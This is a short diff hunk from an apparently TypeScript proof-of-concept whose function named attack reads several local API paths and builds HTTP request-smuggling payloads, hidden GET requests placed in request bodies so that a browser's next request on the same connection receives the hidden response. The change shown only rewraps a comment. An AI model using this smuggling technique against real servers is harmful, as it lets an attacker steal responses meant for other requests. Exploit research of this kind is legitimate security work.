@@ -20,8 +20,8 @@ async function attack(): Promise<{ plain: string[]; smuggled: string[] }> {
   const plain: string[] = [];
   for (const path of ["/api/v1/session", "/api/v1/contexts", "/ctxs", "/api/v1/text/0/0/0", "/metrics"])
     plain.push(await read(path));
-  // Bodies that are a request by themselves, after a line that the server answers before it has read the body. Where the
-  // connection stays open, the next request that the browser sends on it gets the hidden one's answer.
+  // Bodies that are a request by themselves, after a line that the server answers before it has read the body. Where
+  // the connection stays open, the next request that the browser sends on it gets the hidden one's answer.
   const smuggled: string[] = [];
   for (const path of ["/api/v1/rules", "/api/v1/rewrites/3/3", "/api/v1/events", "/api/v1/events"]) {
     const hidden = `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
